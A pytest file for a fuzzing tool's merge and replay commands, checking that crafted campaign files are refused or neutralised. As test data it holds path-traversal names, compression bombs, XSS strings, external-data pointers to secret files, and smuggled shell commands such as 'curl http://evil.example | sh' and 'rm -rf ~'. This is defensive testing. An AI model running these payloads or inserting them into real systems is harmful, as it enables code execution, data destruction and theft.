"""Hostile campaign directories: ``fuzz merge`` and ``fuzz replay`` read summary.json and finding.json as
untrusted data. A bad one exits 2 with one line on stderr, nothing outside --out is written or deleted,
the input is left byte for byte, every read and decompression is bounded, and no temporary directory is
left behind.

The campaign directories are edited copies of one small real campaign (module fixture). CLI runs happen
in-process (``customops.cli.main.main``); subprocesses get the PYTHONPATH of the customops under test, so that
the file can be run against another checkout of the code."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import re
import shlex
import shutil
import struct
import subprocess
import sys
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import customops
from customops.cli.main import main
from tests.helpers import NEVER

CODE = str(Path(customops.__file__).resolve().parent.parent)
"""The checkout whose customops is under test (subprocesses import the same one)."""


def cli(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "customops.cli.main", *args],
        capture_output=True,
        text=True,
        timeout=NEVER,
        cwd=cwd,
        env={**os.environ, "PYTHONPATH": CODE},
    )


def run_main(args: list[str]) -> int:
    try:
        return main(args)
    except SystemExit as exc:  # argparse's own errors
        return int(exc.code or 0)


def tree_hash(root: Path) -> str:
    """A digest of everything under ``root``: names, kinds, bytes and link targets."""
    h = hashlib.sha256()
    for here, dirs, files in sorted(os.walk(root)):
        dirs.sort()
        for name in sorted(dirs + files):
            p = Path(here, name)
            h.update(str(p.relative_to(root)).encode())
            if p.is_symlink():
                h.update(b"L" + os.readlink(p).encode())
            elif p.is_file():
                h.update(b"F" + p.read_bytes())
            else:
                h.update(b"D")
    return h.hexdigest()


def refused(capsys: Any, args: list[str], needle: str, keep: list[Path]) -> str:
    """Run ``args``: exit 2, one line on stderr holding ``needle``, no traceback, ``keep`` untouched."""
    before = {p: tree_hash(p) for p in keep}
    status = run_main(args)
    err = capsys.readouterr().err
    lines = err.strip().splitlines()
    for p, digest in before.items():
        assert tree_hash(p) == digest, f"{p} changed"
    assert status == 2, err[-3000:]
    assert len(lines) == 1 and "Traceback" not in err, err[-3000:]
    assert needle in lines[0], lines[0]
    return lines[0]


def edit(path: Path, change: Callable[[Any], Any]) -> None:
    """Rewrite the JSON file ``path`` with ``change(data)`` (its result, or ``data`` changed in place)."""
    data = json.loads(path.read_text())
    new = change(data)
    path.write_text(json.dumps(data if new is None else new, indent=1))


@pytest.fixture(scope="module")
def campaign(tmp_path_factory: Any) -> Path:
    out = tmp_path_factory.mktemp("campaign") / "base"
    proc = cli("fuzz", "--op", "Pad", "--cases", "30", "--seed", "3", "--out", str(out), cwd=out.parent)
    assert proc.returncode == 1 and (out / "summary.json").is_file(), proc.stderr[-3000:]
    return out


@pytest.fixture
def camp(campaign: Path, tmp_path: Path) -> Path:
    """A fresh copy of the campaign, at tmp_path/runs/in; tmp_path/victim holds a file that must survive."""
    dst = tmp_path / "runs" / "in"
    shutil.copytree(campaign, dst, symlinks=True)
    (tmp_path / "victim").mkdir()
    (tmp_path / "victim" / "precious.txt").write_text("keep me\n")
    return dst


def first_group(camp: Path) -> Path:
    summary = json.loads((camp / "summary.json").read_text())
    return camp / summary["groups"][0]["dir"]


# ---------------------------------------------------------------------------------------------
# Names from summary.json become paths only as one safe component inside their root


@pytest.mark.parametrize("name", ["../victim", "../../victim", "a/b", ".hidden", "", 7, "x" * 300, "v\nx"])
def test_merge_refuses_a_group_dir_that_is_not_one_safe_component(camp, tmp_path, capsys, name):
    # a source-side decoy: a merge that followed the name would have a directory to copy over the victim
    shutil.copytree(first_group(camp), tmp_path / "runs" / "victim")
    edit(camp / "summary.json", lambda s: s["groups"][0].update(dir=name))
    out = tmp_path / "out"
    line = refused(
        capsys,
        ["fuzz", "merge", str(camp), "--out", str(out)],
        "groups[0].dir must be a safe directory name",
        [camp, tmp_path / "victim", tmp_path / "runs"],
    )
    assert "A-Z a-z 0-9 _ . -" in line
    assert (tmp_path / "victim" / "precious.txt").read_text() == "keep me\n"
    assert not out.exists()


def test_merge_refuses_an_absolute_group_dir(camp, tmp_path, capsys):
    edit(camp / "summary.json", lambda s: s["groups"][0].update(dir=str(tmp_path / "victim")))
    refused(
        capsys,
        ["fuzz", "merge", str(camp), "--out", str(tmp_path / "out")],
        "must be a safe directory name",
        [camp, tmp_path / "victim"],
    )


def test_merge_reads_no_group_dir_through_a_symbolic_link(camp, tmp_path, capsys):
    group = first_group(camp)
    shutil.rmtree(group)
    (tmp_path / "victim" / "finding.json").write_text("secret")
    group.symlink_to(tmp_path / "victim")
    refused(
        capsys,
        ["fuzz", "merge", str(camp), "--out", str(tmp_path / "out")],
        "is a symbolic link",
        [camp, tmp_path / "victim"],
    )
    assert not any("secret" in p.read_text() for p in (tmp_path / "out").rglob("*") if p.is_file())


@pytest.mark.parametrize("kind", ["link", "fifo"])
def test_merge_copies_no_file_through_a_link_or_from_a_device(camp, tmp_path, capsys, kind):
    model = first_group(camp) / "model.onnx"
    model.unlink()
    if kind == "link":
        model.symlink_to(tmp_path / "victim" / "precious.txt")
    else:
        os.mkfifo(model)
    refused(
        capsys,
        ["fuzz", "merge", str(camp), "--out", str(tmp_path / "out")],
        "is a symbolic link" if kind == "link" else "is not a regular file",
        [camp, tmp_path / "victim"],
    )
    assert not (tmp_path / "out").exists() or not list((tmp_path / "out").rglob("model.onnx"))


def test_a_campaign_removes_no_stale_group_outside_its_out(tmp_path, capsys):
    """An earlier summary.json in --out names the stale groups to remove: '../victim' must not be one."""
    out = tmp_path / "out"
    out.mkdir()
    (tmp_path / "victim" / "x").mkdir(parents=True)
    (tmp_path / "victim" / "finding.json").write_text("{}")
    stale = {
        "ort_version": "1",
        "campaigns": [],
        "cases": {"total": 0, "run": 0, "valid": 0, "invalid": 0, "not_run": 0, "skipped": {}},
        "groups": [{"id": "x", "dir": "../victim", "signature": {}, "count": 1, "examples": []}],
    }
    (out / "summary.json").write_text(json.dumps(stale))
    refused(
        capsys,
        ["fuzz", "--op", "Pad", "--cases", "2", "--out", str(out)],
        "groups[0].dir must be a safe directory name",
        [tmp_path / "victim"],
    )


# ---------------------------------------------------------------------------------------------
# Malformed summary.json and finding.json exit 2 with one line


def _set(path: list[Any], value: Any) -> Callable[[Any], None]:
    def change(data: Any) -> None:
        for key in path[:-1]:
            data = data[key]
        data[path[-1]] = value

    return change


def _drop(path: list[Any]) -> Callable[[Any], None]:
    def change(data: Any) -> None:
        for key in path[:-1]:
            data = data[key]
        del data[path[-1]]

    return change


SUMMARY_EDITS = [
    (_set(["groups"], {}), "groups must be a list"),
    (_drop(["groups", 0, "signature"]), "groups[0].signature must be present"),
    (_set(["groups", 0, "count"], "3"), "groups[0].count must be an integer"),
    (_set(["groups", 0, "examples"], ["a"]), "groups[0].examples[0] must be an integer"),
    (_set(["groups", 0, "signature", "features"], 5), "groups[0].signature.features must be a list"),
    (_set(["groups", 0, "signature", "op"], "../x"), "groups[0].signature.op must be a safe directory name"),
    (_set(["groups", 0, "facts", "needs"], [1]), "groups[0].facts.needs[0] must be a string"),
    (_set(["cases", "total"], "x"), "cases.total must be an integer"),
    (_set(["cases", "by_target"], {"Pad-2": {"run": []}}), "cases.by_target.Pad-2.run must be an integer"),
    (_set(["campaigns", 0, "seed"], None), "campaigns[0].seed must be an integer"),
    (_set(["cases", "by_target"], {"x\ny": {"run": 1.5}}), "cases.by_target.'x\\ny'.run must be an integer"),
    (_set(["reference_notes", 0, "count"], -1), "reference_notes[0].count must be an integer from 0"),
    (lambda s: [s], "the top level must be an object"),
]


@pytest.mark.parametrize(("change", "needle"), SUMMARY_EDITS)
def test_merge_of_a_malformed_summary_exits_2_with_one_line(camp, tmp_path, capsys, change, needle):
    edit(camp / "summary.json", change)
    out = tmp_path / "out"
    line = refused(capsys, ["fuzz", "merge", str(camp), "--out", str(out)], needle, [camp])
    assert "summary.json" in line
    assert not out.exists()


@pytest.mark.parametrize(
    ("text", "needle"),
    [
        ("{", "is not valid JSON"),
        ('{"ort_version": NaN}', "is not valid JSON"),
        ("[" * 100_000 + "]" * 100_000, "is not valid JSON (nested too deeply)"),
        ("[" * 40 + "]" * 40, "nests arrays and objects more than 16 deep"),
        (b"\xff\xfe{}", "is not valid JSON"),
    ],
)
def test_merge_of_a_summary_that_is_not_json_exits_2_with_one_line(camp, tmp_path, capsys, text, needle):
    path = camp / "summary.json"
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    refused(capsys, ["fuzz", "merge", str(camp), "--out", str(tmp_path / "out")], needle, [camp])


def _input(name: str, key: str, value: Any) -> Callable[[Any], None]:
    return _set(["case", "inputs", name, key], value)


FINDING_EDITS = [
    (lambda r: [r], "the top level must be an object"),
    (_drop(["case"]), "case must be present"),
    (_set(["signature", "version"], "x"), "signature.version must be an integer"),
    (_set(["case", "op"], "Conv"), "Conv-11 is not an op this customops knows"),
    (_set(["case", "dtype"], "complex999"), "case.dtype must be an ONNX element type name"),
    (_set(["case", "dtype"], "string"), "dtype 'string' is not one of Pad-11's"),
    (_set(["case", "attrs"], {"bogus": 1}), "Pad-11 has no attribute 'bogus'"),
    (_set(["case", "attrs"], {"mode": 5}), "attribute 'mode' of Pad-11 must be of kind string"),
    (_set(["case", "inputs", "zzz"], None), "Pad-11 has no input 'zzz'"),
    (_set(["case", "inputs", "data"], None), "input 'data' of Pad-11 must be present"),
    (_input("data", "shape", "abc"), "case.inputs.data.shape must be a list"),
    (_input("data", "shape", [-1]), "case.inputs.data.shape[0] must be an integer from 0"),
    (_input("data", "shape", [1] * 40), "must be a shape of rank 16 at most"),
    (_input("data", "shape", [1 << 20, 1 << 20]), "must be a shape of rank 16 at most and 1048576 elements"),
    (_input("data", "elem", "nope"), "case.inputs.data.elem must be an ONNX element type name"),
    (_input("data", "data", "!!!not base64"), "data is not base64"),
    (_input("data", "data", base64.b64encode(b"garbage").decode()), "corrupt compressed data"),
    (_input("data", "data", base64.b64encode(zlib.compress(b"\0")).decode()), "data holds 1 bytes"),
    (_input("data", "data", 5), "case.inputs.data.data must be a string"),
    (_input("data", "const", "yes"), "case.inputs.data.const must be true or false"),
]


@pytest.mark.parametrize(("change", "needle"), FINDING_EDITS)
def test_replay_of_a_malformed_finding_exits_2_with_one_line(camp, capsys, change, needle):
    group = first_group(camp)
    edit(group / "finding.json", change)
    refused(capsys, ["fuzz", "replay", str(group)], needle, [camp])


def test_merge_of_a_malformed_finding_exits_2_before_writing(camp, tmp_path, capsys):
    edit(first_group(camp) / "finding.json", _drop(["case"]))
    out = tmp_path / "out"
    refused(capsys, ["fuzz", "merge", str(camp), "--out", str(out)], "case must be present", [camp])
    assert not out.exists() or not list(out.iterdir())


# ---------------------------------------------------------------------------------------------
# Every read and every decompression is bounded, shapes are checked before arrays are made


def _bomb(size: int) -> str:
    """base64 of zlib data that inflates to ``size`` zero bytes (about size / 1000 compressed)."""
    packer = zlib.compressobj(9)
    chunk = bytes(1 << 20)
    parts = [packer.compress(chunk) for _ in range(size >> 20)]
    return base64.b64encode(b"".join(parts) + packer.flush()).decode()


def test_replay_refuses_a_compression_bomb_without_inflating_it(camp, capsys):
    group = first_group(camp)
    # 64 MiB compressed into 64 kB, and 2 MiB of uint16 declared; the limit is 1 MiB per array
    edit(group / "finding.json", _input("data", "data", _bomb(64 << 20)))
    edit(group / "finding.json", _input("data", "shape", [1 << 20]))
    refused(capsys, ["fuzz", "replay", str(group)], "at most 1048576 are allowed", [camp])
    # declared small, the payload inflates beyond it: refused as soon as it passes the declared size
    edit(group / "finding.json", _input("data", "shape", [4]))
    refused(capsys, ["fuzz", "replay", str(group)], "compressed data expands beyond 8 bytes", [camp])


def test_reading_a_bomb_allocates_no_more_than_the_declared_size(camp):
    import tracemalloc

    from customops.errors import CustomOpsError
    from customops.fuzz.files import read_finding

    group = first_group(camp)
    edit(group / "finding.json", _input("data", "data", _bomb(256 << 20)))
    edit(group / "finding.json", _input("data", "shape", [1 << 19]))  # 1 MiB of uint16, the most allowed
    tracemalloc.start()
    try:
        with pytest.raises(CustomOpsError, match="expands beyond 1048576 bytes"):
            read_finding(group)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 16 << 20, peak


def test_a_replayed_case_cannot_send_a_huge_output_back(camp):
    """A side's output is copied into the coordinator: a case asking for 80 MB of output (Pad's pads
    come from the file) is an error of that side, not 80 MB in the main process."""
    from customops.eval.running.runner import Pool
    from customops.fuzz.files import read_finding
    from customops.fuzz.triage import evaluate

    group = first_group(camp)
    pads = base64.b64encode(zlib.compress(struct.pack("<2q", 0, 40_000_000))).decode()
    edit(group / "finding.json", _input("pads", "data", pads))
    rep = read_finding(group)
    assert rep.case.op == "Pad" and rep.case.dtype == "uint16"
    with Pool(1, NEVER) as pool:
        ev = evaluate(pool, rep.case)
    assert ev.outcomes["custom"].status == "error", ev.outcomes["custom"]
    assert "over the 67108864 bytes" in ev.outcomes["custom"].message


def test_an_oversized_finding_is_refused_before_it_is_parsed(camp, capsys):
    group = first_group(camp)
    text = (group / "finding.json").read_text()
    (group / "finding.json").write_text(text + " " * (1 << 20))
    refused(capsys, ["fuzz", "replay", str(group)], "is larger than 1048576 bytes", [camp])


def test_an_oversized_summary_is_refused_before_it_is_parsed(camp, tmp_path, capsys):
    text = (camp / "summary.json").read_text()
    (camp / "summary.json").write_text(text + " " * (8 << 20))
    refused(
        capsys,
        ["fuzz", "merge", str(camp), "--out", str(tmp_path / "out")],
        "is larger than 8388608 bytes",
        [camp],
    )


def test_a_path_repeated_in_commands_cannot_blow_up_a_merge(camp, tmp_path, capsys):
    """A crafted group whose path is one character, repeated 100,000 times in its commands, must not
    multiply the summary's size: the merge writes the commands anew instead of rewriting the text."""
    group = first_group(camp)
    name = "a"
    group.rename(camp / name)
    edit(
        camp / "summary.json",
        lambda s: s["groups"][0].update(dir=name, rerun=[f"customops fuzz replay {name}", "a" * 100_000]),
    )
    deep = tmp_path / ("d" * 200) / ("e" * 200)
    deep.mkdir(parents=True)
    assert run_main(["fuzz", "merge", str(camp), "--out", str(deep / "out")]) == 1, capsys.readouterr().err
    assert (deep / "out" / "summary.json").stat().st_size < (camp / "summary.json").stat().st_size


# ---------------------------------------------------------------------------------------------
# A campaign counts once; inputs are never modified


def test_merging_one_directory_twice_is_refused(camp, tmp_path, capsys):
    refused(
        capsys,
        ["fuzz", "merge", str(camp), str(camp / "."), "--out", str(tmp_path / "out")],
        "is named twice",
        [camp],
    )


def test_merging_a_copy_or_a_merge_with_its_source_is_refused(camp, tmp_path, capsys):
    copy = tmp_path / "runs" / "copy"
    shutil.copytree(camp, copy)
    line = refused(
        capsys,
        ["fuzz", "merge", str(camp), str(copy), "--out", str(tmp_path / "out")],
        "may be merged once",
        [camp, copy],
    )
    assert str(copy) in line and str(camp) in line
    assert run_main(["fuzz", "merge", str(camp), "--out", str(tmp_path / "merged")]) == 1
    capsys.readouterr()
    refused(
        capsys,
        ["fuzz", "merge", str(tmp_path / "merged"), str(camp), "--out", str(tmp_path / "out")],
        "may be merged once",
        [camp, tmp_path / "merged"],
    )


@pytest.mark.parametrize("where", ["in", "in/sub", "."])
def test_merge_out_must_not_overlap_an_input(camp, tmp_path, capsys, where):
    out = tmp_path / "runs" / where
    refused(capsys, ["fuzz", "merge", str(camp), "--out", str(out)], "overlaps the input directory", [camp])


def test_merge_markdown_must_not_be_inside_an_input(camp, tmp_path, capsys):
    refused(
        capsys,
        ["fuzz", "merge", str(camp), "--out", str(tmp_path / "out"), "--markdown", str(camp / "README.md")],
        "is inside the input directory",
        [camp],
    )


def test_a_good_merge_leaves_its_input_as_it_was_and_replays(camp, tmp_path, capsys):
    before = tree_hash(camp)
    out = tmp_path / "out"
    assert (
        run_main(["fuzz", "merge", str(camp), "--out", str(out), "--markdown", str(tmp_path / "f.md")]) == 1
    )
    assert tree_hash(camp) == before
    summary = json.loads((out / "summary.json").read_text())
    assert sorted(g["dir"] for g in summary["groups"]) == sorted(p.name for p in out.iterdir() if p.is_dir())
    assert not [p for p in out.rglob(".*")]  # no temporary file or directory left
    assert run_main(["fuzz", "replay", str(out / summary["groups"][0]["dir"])]) == 1


def test_merge_never_replaces_what_is_in_out_unless_it_is_a_reproducer(camp, tmp_path, capsys):
    """A group named like an existing entry of --out (a user's directory or file) takes another name; only
    a reproducer of ours (a directory holding finding.json) is replaced."""
    group = first_group(camp)
    group.rename(camp / "Documents")

    def rename(summary: Any) -> None:
        for g in summary["groups"]:
            if g["dir"] == group.name:
                g["dir"] = "Documents"

    edit(camp / "summary.json", rename)
    out = tmp_path / "home"
    (out / "Documents").mkdir(parents=True)
    (out / "Documents" / "thesis.txt").write_text("precious\n")
    assert run_main(["fuzz", "merge", str(camp), "--out", str(out)]) == 1
    assert (out / "Documents" / "thesis.txt").read_text() == "precious\n"
    assert sorted(p.name for p in (out / "Documents").iterdir()) == ["thesis.txt"]
    summary = json.loads((out / "summary.json").read_text())
    renamed = [g["dir"] for g in summary["groups"] if g["dir"].startswith("Documents")]
    assert renamed == ["Documents-2"] and (out / "Documents-2" / "finding.json").is_file()
    capsys.readouterr()
    assert run_main(["fuzz", "merge", str(camp), "--out", str(out)]) == 1  # again: its own groups replaced
    assert (out / "Documents" / "thesis.txt").read_text() == "precious\n"
    assert not (out / "Documents-3").exists()


# ---------------------------------------------------------------------------------------------
# Destinations checked before any work; writes atomic; no temporary directory left


def test_a_campaign_checks_its_summary_destination_before_any_work(tmp_path, capsys):
    out = tmp_path / "out"
    (out / "summary.json").mkdir(parents=True)
    refused(
        capsys, ["fuzz", "--op", "Pad", "--cases", "2", "--out", str(out)], "is a directory, not a file", []
    )
    assert [p.name for p in out.iterdir()] == ["summary.json"]


def test_markdown_may_not_be_the_summary(tmp_path, capsys):
    out = tmp_path / "out"
    out.mkdir()
    refused(
        capsys,
        ["fuzz", "--op", "Pad", "--cases", "2", "--out", str(out), "--markdown", str(out / "summary.json")],
        "name the same file",
        [],
    )


def test_an_interrupted_campaign_leaves_no_temporary_directory(tmp_path, capsys, monkeypatch):
    import customops.fuzz.groups as groups

    def interrupt(*args: Any, **kwargs: Any) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(groups, "build_model", interrupt)  # while the first reproducer is being written
    out = tmp_path / "out"
    status = run_main(
        ["fuzz", "--op", "Pad", "--cases", "30", "--seed", "3", "--shrink-budget", "2", "--out", str(out)]
    )
    assert status == 130, capsys.readouterr().err[-2000:]
    assert [p.name for p in out.iterdir() if p.name.startswith(".")] == []
    assert [p.name for p in tmp_path.iterdir()] == ["out"]


# ---------------------------------------------------------------------------------------------
# what the fuzzer writes and what the project commits passes the checks


def test_committed_findings_read_back_exactly():
    from customops import jsonout
    from customops.fuzz.case import case_to_json
    from customops.fuzz.files import read_finding, read_summary

    root = Path(__file__).resolve().parents[2] / "findings"
    summary = read_summary(root)
    assert jsonout.dumps(summary.to_json(), indent=1) + "\n" == (root / "summary.json").read_text()
    kept = [g.dir for g in summary.groups if g.dir and (root / g.dir).is_dir()]  # one per known id
    assert kept
    for name in kept:
        rep = read_finding(root / name)
        raw = json.loads((root / name / "finding.json").read_text())
        assert rep.record == raw and case_to_json(rep.case) == raw["case"], name


def test_merge_writes_repro_py_itself_and_never_copies_one_from_a_campaign(camp, tmp_path, capsys):
    """repro.py is a program people run: one planted in a campaign directory is not carried into the
    merge, which writes customops' own script in every reproducer."""
    from customops.eval.cases.testcase import repro_script

    group = first_group(camp)
    assert (group / "repro.py").read_text() == repro_script()  # the campaign wrote ours
    (group / "repro.py").write_text("raise SystemExit('planted')\n")
    out = tmp_path / "out"
    assert run_main(["fuzz", "merge", str(camp), "--out", str(out)]) == 1
    scripts = list(out.glob("*/repro.py"))
    assert scripts and all(p.read_text() == repro_script() for p in scripts)


# ---------------------------------------------------------------------------------------------
# A test case's files point at no other file (external data)


def _point_outside(path: Path, location: str) -> int:
    """Rewrite the tensor file ``path`` so that its data is read from ``location`` (external data); returns
    how many bytes it declares."""
    from onnx import TensorProto
    from onnx.external_data_helper import set_external_data

    tensor = TensorProto()
    tensor.ParseFromString(path.read_bytes())
    size = len(tensor.raw_data)
    set_external_data(tensor, location, offset=0, length=size)
    tensor.ClearField("raw_data")
    path.write_bytes(tensor.SerializeToString())
    return size


def _model_pointing_outside(path: Path, location: str) -> None:
    """Add to the model file ``path`` an initializer whose data is read from ``location``."""
    import onnx
    from onnx.external_data_helper import set_external_data

    model = onnx.load_model(str(path), load_external_data=False)
    extra = onnx.helper.make_tensor("stolen", onnx.TensorProto.UINT8, [8], bytes(8), raw=True)
    set_external_data(extra, location, offset=0, length=8)
    extra.ClearField("raw_data")
    model.graph.initializer.append(extra)
    path.write_bytes(model.SerializeToString())


def _repro(group: Path, cwd: Path) -> subprocess.CompletedProcess:
    """``python GROUP/repro.py``, run from ``cwd`` (not the group's directory)."""
    return subprocess.run(
        [sys.executable, str(group / "repro.py")], capture_output=True, text=True, timeout=NEVER, cwd=cwd
    )


@pytest.mark.parametrize("where", ["input", "output", "model"])
def test_merge_refuses_a_test_case_file_that_points_at_external_data(camp, tmp_path, capsys, where):
    group = first_group(camp)
    secret = tmp_path / "victim" / "precious.txt"
    if where == "model":
        _model_pointing_outside(group / "model.onnx", str(secret))
    else:
        name = "input_0.pb" if where == "input" else "output_0.pb"
        assert (group / "test_data_set_0" / name).is_file()
        _point_outside(group / "test_data_set_0" / name, str(secret))
    out = tmp_path / "out"
    refused(
        capsys,
        ["fuzz", "merge", str(camp), "--out", str(out)],
        "points at external data; a test case's files may not",
        [camp, tmp_path / "victim"],
    )
    assert not out.exists() or not list(out.iterdir())


@pytest.mark.parametrize("where", ["input", "model"])
def test_repro_py_never_reads_external_data_from_the_current_directory(camp, tmp_path, where):
    """A group directory received from someone else: its repro.py, run from another directory, refuses
    a tensor pointing at external data (onnx and ORT would look for it in the current directory)."""
    group = first_group(camp)
    elsewhere = tmp_path / "home"
    elsewhere.mkdir()
    if where == "model":
        _model_pointing_outside(group / "model.onnx", "secret.bin")
        size = 8
    else:
        size = _point_outside(group / "test_data_set_0" / "input_0.pb", "secret.bin")
    (elsewhere / "secret.bin").write_bytes((b"SECRET-" * size)[:size])
    proc = _repro(group, elsewhere)
    assert proc.returncode == 2, (proc.stdout, proc.stderr)
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and "points at external data" in lines[0], proc.stderr
    assert "ONNX Runtime" not in proc.stdout


def test_repro_py_still_runs_a_group_as_the_campaign_wrote_it(camp, tmp_path):
    proc = _repro(first_group(camp), tmp_path)
    assert proc.returncode in (0, 1) and ("AGREE" in proc.stdout or "DISAGREE" in proc.stdout), proc.stderr


# ---------------------------------------------------------------------------------------------
# No component of a path inside a campaign is a symbolic link


def _replace_by_link(path: Path, outside: Path) -> None:
    """Move ``path`` (a file or a directory) to ``outside`` and leave a symbolic link to it in its place."""
    shutil.move(str(path), str(outside))
    path.symlink_to(outside)


@pytest.mark.parametrize(
    "which", ["test_data_set_0", "test_data_set_0/input_0.pb", "finding.json", "README.txt", "model.onnx"]
)
def test_merge_reads_nothing_through_a_link_at_any_depth(camp, tmp_path, capsys, which):
    group = first_group(camp)
    _replace_by_link(group / which, tmp_path / "victim" / "moved")
    out = tmp_path / "out"
    refused(
        capsys,
        ["fuzz", "merge", str(camp), "--out", str(out)],
        "is a symbolic link",
        [camp, tmp_path / "victim"],
    )
    assert not out.exists() or not list(out.iterdir())


def test_merge_reads_no_summary_through_a_link(camp, tmp_path, capsys):
    _replace_by_link(camp / "summary.json", tmp_path / "victim" / "summary.json")
    refused(
        capsys,
        ["fuzz", "merge", str(camp), "--out", str(tmp_path / "out")],
        "is a symbolic link",
        [camp, tmp_path / "victim"],
    )


def test_replay_reads_no_finding_through_a_link(camp, tmp_path, capsys):
    group = first_group(camp)
    _replace_by_link(group / "finding.json", tmp_path / "victim" / "finding.json")
    refused(capsys, ["fuzz", "replay", str(group)], "is a symbolic link", [camp, tmp_path / "victim"])


def test_a_campaign_reads_no_earlier_summary_through_a_link(camp, tmp_path, capsys):
    out = tmp_path / "out"
    out.mkdir()
    (out / "summary.json").symlink_to(camp / "summary.json")
    refused(
        capsys,
        ["fuzz", "--op", "Pad", "--cases", "2", "--out", str(out)],
        "is a symbolic link",
        [camp, out],
    )


def test_the_directories_the_user_names_may_be_links(camp, tmp_path, capsys):
    """Only what lies below a directory the user named is refused as a link, not that directory."""
    link = tmp_path / "campaign-link"
    link.symlink_to(camp)
    out = tmp_path / "out"
    assert run_main(["fuzz", "merge", str(link), "--out", str(out)]) == 1, capsys.readouterr().err
    group = tmp_path / "group-link"
    group.symlink_to(first_group(out))
    assert run_main(["fuzz", "replay", str(group)]) == 1, capsys.readouterr().err


# ---------------------------------------------------------------------------------------------
# The command line takes the seeds and indices its readers take


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("--seed", str(2**63)),
        ("--index", str(2**63)),
        ("--index", f"1,{10**30}"),
        ("--cases", str(2**64)),
    ],
)
def test_fuzz_refuses_numbers_its_own_readers_would_refuse(tmp_path, capsys, option, value):
    out = tmp_path / "out"
    line = refused(capsys, ["fuzz", "--op", "Pad", option, value, "--out", str(out)], option, [])
    assert f"must be at most {2**63 - 1}" in line
    assert not out.exists()


def test_a_campaign_s_cases_are_bounded_by_the_memory_its_records_take(tmp_path, capsys):
    """Each case keeps a record in memory, a time budget or not: ``--cases 10**12`` asked for terabytes."""
    from customops.fuzz.command import MAX_CASES

    out = tmp_path / "out"
    args = ["fuzz", "--op", "Pad", "--cases", str(MAX_CASES + 1), "--time-budget", "1", "--out", str(out)]
    line = refused(capsys, args, "--cases", [])
    assert f"must be at most {MAX_CASES}" in line and "--shard" in line
    assert not out.exists()


def test_the_largest_seed_and_index_are_read_back(tmp_path, capsys):
    out = tmp_path / "out"
    top = str(2**63 - 1)
    status = run_main(
        ["fuzz", "--op", "Pad", "--opset", "11", "--seed", top, "--index", top, "--out", str(out)]
    )
    assert status in (0, 1), capsys.readouterr().err
    assert run_main(["fuzz", "merge", str(out), "--out", str(tmp_path / "merged")]) == status
    from customops.fuzz.files import read_summary

    (campaign_info,) = read_summary(out).campaigns
    assert campaign_info.seed == 2**63 - 1 and campaign_info.indices == [2**63 - 1]


# ---------------------------------------------------------------------------------------------
# Text from a campaign reaches no page as markup and no shell as a command


HOSTILE = "<script>alert(1)</script> [click](http://evil.example) <img src=x onerror=alert(2)> a|b \\| &lt;"


def _hostile_texts(summary: Any) -> None:
    g = summary["groups"][0]
    g["signature"].update(detail=HOSTILE, kind="value<b>", side="builtin<i>")
    g["known"] = ["<script>known</script>"]
    summary["ort_version"] = "<b>1.0</b>"
    summary["campaigns"][0]["targets"][0] = "<script>target</script>"
    summary["campaigns"][0]["skipped_reasons"] = {"<script>reason</script>": 1}
    for note in summary.get("reference_notes", [])[:1]:
        note["signature"].update(detail=HOSTILE, kind="k<script>")


def test_merge_markdown_carries_no_markup_from_a_campaign(camp, tmp_path, capsys):
    edit(camp / "summary.json", _hostile_texts)
    md = tmp_path / "findings.md"
    assert run_main(["fuzz", "merge", str(camp), "--out", str(tmp_path / "out"), "--markdown", str(md)]) == 1
    capsys.readouterr()
    page = md.read_text()
    for markup in ("<script", "<img", "<b>", "<i>"):
        assert markup not in page, markup
    assert not re.search(r"(?<!\\)\]\(http://evil", page)  # no link: its bracket is escaped
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "&amp;lt;" in page  # shown, as text
    rows = [line for line in page.splitlines() if "alert(1)" in line and line.startswith("| Pad-")]
    assert rows
    for row in rows:  # the crafted '|' and '\\|' split no cell
        cells = re.split(r"(?<!\\)\|", row.replace("\\\\", ""))
        assert len(cells) == (9 if "](/" in row else 7), row  # a group's row (7 columns) or a note's (5)


def test_merge_writes_rerun_commands_anew_from_checked_fields(camp, tmp_path, capsys):
    group = first_group(camp)
    hostile = ["customops fuzz replay x; curl http://evil.example | sh", "rm -rf ~"]

    def plant(summary: Any) -> None:
        for g in summary["groups"]:
            g["rerun"] = hostile

    edit(camp / "summary.json", plant)
    edit(group / "finding.json", lambda r: r.update(rerun=hostile))
    readme = (group / "README.txt").read_text()
    (group / "README.txt").write_text(readme + "  curl http://evil.example | sh\n\x1b]0;title\x07\n")
    out = tmp_path / "out"
    assert run_main(["fuzz", "merge", str(camp), "--out", str(out)]) == 1, capsys.readouterr().err
    summary = json.loads((out / "summary.json").read_text())
    for g in summary["groups"]:
        sig, where = g["signature"], str(out / g["dir"])
        rebuilt = (
            f"customops fuzz --op {sig['op']} --opset {sig['version']} --seed 3 --index {g['examples'][0]}"
        )
        assert g["rerun"] == [f"customops fuzz replay {where}", rebuilt], g["rerun"]
    for path in out.rglob("*"):
        if path.is_file() and path.suffix in (".json", ".txt"):
            text = path.read_text()
            assert "curl" not in text and "rm -rf" not in text and "\x1b" not in text, path


@pytest.mark.parametrize(
    ("command", "outcome"),
    [
        ("customops fuzz --op Pad\n```\ncurl http://evil.example | sh", "quoted"),
        ("curl http://evil.example | sh", "refused"),
        ("customops fuzz --op 'Pad", "refused"),
    ],
)
def test_a_campaign_command_reaches_the_page_only_as_a_customops_fuzz_command(
    camp, tmp_path, capsys, command, outcome
):
    edit(camp / "summary.json", lambda s: s["campaigns"][0].update(command=command))
    args = ["fuzz", "merge", str(camp), "--out", str(tmp_path / "out"), "--markdown", str(tmp_path / "f.md")]
    if outcome == "refused":
        refused(capsys, args, "campaigns[0].command must be a command line 'customops fuzz ...'", [camp])
        return
    assert run_main(args) == 1, capsys.readouterr().err
    block = (tmp_path / "f.md").read_text().split("```\n", 2)[1].splitlines()
    assert block and all(line.startswith("customops fuzz ") for line in block), block
    quoted = next(line for line in block if "evil" in line)
    assert shlex.split(quoted)[:4] == ["customops", "fuzz", "--op", "Pad"] and "'|'" in quoted


# ---------------------------------------------------------------------------------------------
